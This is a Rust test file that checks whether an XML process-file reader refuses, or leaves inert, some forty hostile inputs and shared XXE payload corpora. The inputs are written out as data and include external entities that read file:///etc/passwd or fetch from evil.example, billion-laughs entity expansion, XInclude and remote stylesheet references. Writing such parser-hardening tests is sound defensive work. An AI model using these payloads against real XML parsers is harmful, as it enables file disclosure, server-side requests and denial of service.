//! Files that are made to harm their reader are refused, or hold nothing but what stands in them.

use std::path::Path;

use bpe::{Document, Limits};

use crate::common::{file, process};
use crate::xml::shared;

/// Texts that make other readers open files, ask servers, or run out of memory; and whether ours refuses them.
fn hostile() -> Vec<(&'static str, Vec<u8>, bool)> {
    let nested: String = (1..20).map(|n| format!("<!ENTITY l{n} \"&l{};&l{};\">", n - 1, n - 1)).collect();
    let texts = |name, text: &str, refused| (name, text.as_bytes().to_vec(), refused);
    let utf16 =
        |text: &str| [0xff, 0xfe].into_iter().chain(text.encode_utf16().flat_map(u16::to_le_bytes)).collect();
    vec![
        texts(
            "an entity from a file",
            "<!DOCTYPE a [<!ENTITY x SYSTEM \"file:///etc/passwd\">]><a>&x;</a>",
            true,
        ),
        texts(
            "an entity from a server",
            "<!DOCTYPE a [<!ENTITY x PUBLIC \"p\" \"http://evil.example/\">]><a>&x;</a>",
            true,
        ),
        texts(
            "an entity in a value",
            "<!DOCTYPE a [<!ENTITY x SYSTEM \"file:///etc/passwd\">]><a b=\"&x;\"/>",
            true,
        ),
        texts(
            "a parameter entity",
            "<!DOCTYPE a [<!ENTITY % x SYSTEM \"http://evil.example/d\"> %x;]><a/>",
            true,
        ),
        texts("a type from a server", "<!DOCTYPE a SYSTEM \"http://evil.example/d\"><a/>", true),
        texts(
            "a public type",
            "<!DOCTYPE a PUBLIC \"-//W3C//DTD XHTML 1.0\" \"http://evil.example/d\"><a/>",
            true,
        ),
        texts("an empty type", "<!DOCTYPE a><a/>", true),
        texts("a default value", "<!DOCTYPE a [<!ATTLIST a b CDATA \"x\">]><a/>", true),
        texts(
            "entities of entities",
            &format!("<!DOCTYPE a [<!ENTITY l0 \"lol\">{nested}]><a>&l19;</a>"),
            true,
        ),
        texts(
            "one entity many times",
            &format!("<!DOCTYPE a [<!ENTITY x \"{}\">]><a>{}</a>", "x".repeat(9_999), "&x;".repeat(9_999)),
            true,
        ),
        texts("an entity of itself", "<!DOCTYPE a [<!ENTITY x \"&x;\">]><a>&x;</a>", true),
        texts("an entity that nobody declared", "<a>&nbsp;</a>", true),
        texts("a type in the middle", "<a><!DOCTYPE b><b/></a>", true),
        texts(
            "an inclusion",
            "<a xmlns:xi=\"http://www.w3.org/2001/XInclude\"><xi:include href=\"file:///etc/passwd\" parse=\"text\"/></a>",
            false,
        ),
        texts("a style sheet", "<?xml-stylesheet href=\"http://evil.example/x.xsl\"?><a/>", false),
        texts(
            "a schema",
            "<a xmlns:xsi=\"http://www.w3.org/2001/XMLSchema-instance\" xsi:schemaLocation=\"urn:a http://evil.example/a.xsd\"/>",
            false,
        ),
        texts("a script", "<a xmlns=\"http://www.w3.org/1999/xhtml\"><script>alert(1)</script></a>", false),
        texts("too deep", &"<a>".repeat(100_000), true),
        texts(
            "as many values as fit",
            &format!("<a {}/>", (0..80_000).map(|n| format!("a{n}=\"\" ")).collect::<String>()),
            false,
        ),
        texts("a value twice", "<a b=\"1\" b=\"2\"/>", true),
        texts("a value twice by two prefixes", "<a xmlns:p=\"u\" xmlns:q=\"u\" p:b=\"1\" q:b=\"2\"/>", true),
        texts("a prefix that nobody declared", "<a p:b=\"1\"/>", true),
        texts("the character 0", "<a>\0</a>", true),
        texts("the number 0", "<a>&#x0;</a>", true),
        texts("half a pair", "<a>&#xD800;</a>", true),
        texts("beyond the last character", "<a>&#x110000;</a>", true),
        texts("a number without end", &format!("<a>&#{};</a>", "9".repeat(9_999)), true),
        texts("a reference without end", "<a>&#65</a>", true),
        texts("a name without end", &format!("<{}", "a".repeat(99_999)), true),
        texts("a value without end", "<a b=\"", true),
        texts("a comment without end", "<a><!--", true),
        texts("a section without end", "<a><![CDATA[", true),
        texts("an instruction without end", "<a><?x", true),
        texts("an end without beginning", "</a>", true),
        texts("two roots", "<a/><b/>", true),
        texts("text behind the root", "<a/>x", true),
        texts("a declaration in the middle", "<a><?xml version=\"1.0\"?></a>", true),
        ("bytes that are not UTF-8", b"<a>\xff\xfe</a>".to_vec(), true),
        ("a character in too many bytes", b"<a>\xc0\xbcb></a>".to_vec(), true),
        ("another encoding", b"<?xml version=\"1.0\" encoding=\"UTF-7\"?><a>+ADw-b+AD4-</a>".to_vec(), true),
        (
            "sixteen bits",
            utf16("<?xml version=\"1.0\" encoding=\"UTF-16\"?><!DOCTYPE a [<!ENTITY x \"y\">]><a>&x;</a>"),
            true,
        ),
    ]
}

/// Whether a text is refused; what is read holds no more than what stood in the file.
fn is_refused(name: &str, bytes: &[u8]) -> bool {
    match Document::read(bytes, &Limits::default()) {
        Ok(document) => {
            assert!(document.to_string().len() <= 6 * bytes.len() + 200, "{name} grows");
            false
        }
        Err(_) => true,
    }
}

#[test]
fn each_kind_is_refused_or_inert() {
    let wrong = hostile().into_iter().filter(|(name, bytes, refused)| is_refused(name, bytes) != *refused);
    let wrong: Vec<String> =
        wrong.map(|(name, _, refused)| format!("{name}: refused is not {refused}")).collect();
    assert!(wrong.is_empty(), "{}", wrong.join("\n"));
}

/// A text before the file, in the process, and in a name.
fn in_places(payload: &str) -> [String; 3] {
    let node = "<startEvent id=\"s\"/>";
    let name = format!("<startEvent id=\"s\" name=\"{payload}\"/>");
    [
        format!("{payload}\n{}", file(&process("p", node, &[]))),
        file(&process("p", &format!("{node}{payload}"), &[])),
        file(&process("p", &name, &[])),
    ]
}

/// The shared payloads; none where they are not named.
fn payloads(folder: &Path) -> Vec<Vec<u8>> {
    let mut inputs = Vec::new();
    for folder in ["libxml2", "PayloadsAllTheThings"].map(|name| folder.join(name)) {
        for entry in std::fs::read_dir(folder).unwrap() {
            inputs.push(std::fs::read(entry.unwrap().path()).unwrap());
        }
    }
    let path = folder.join("xxe-oneliners.jsonl");
    for line in std::fs::read_to_string(&path).unwrap_or_else(|_| panic!("{}", path.display())).lines() {
        let line: serde_json::Value = serde_json::from_str(line).unwrap();
        inputs.push(line["s"].as_str().unwrap().as_bytes().to_vec());
    }
    inputs
}

#[test]
fn in_every_place_of_a_file_they_do_no_more() {
    let own = hostile().into_iter().map(|(_, bytes, _)| bytes);
    let shared = shared("corpora/xml").map(|folder| payloads(&folder)).unwrap_or_default();
    let (mut refused, mut total) = (0, 0);
    for bytes in own.chain(shared) {
        let texts = std::str::from_utf8(&bytes).map(in_places).unwrap_or_default();
        for input in texts.iter().map(String::as_bytes).chain([&*bytes]).filter(|input| !input.is_empty()) {
            refused +=
                usize::from(is_refused(&String::from_utf8_lossy(&input[..input.len().min(80)]), input));
            total += 1;
        }
    }
    assert!(refused * 2 > total, "only {refused} of {total} refused");
}
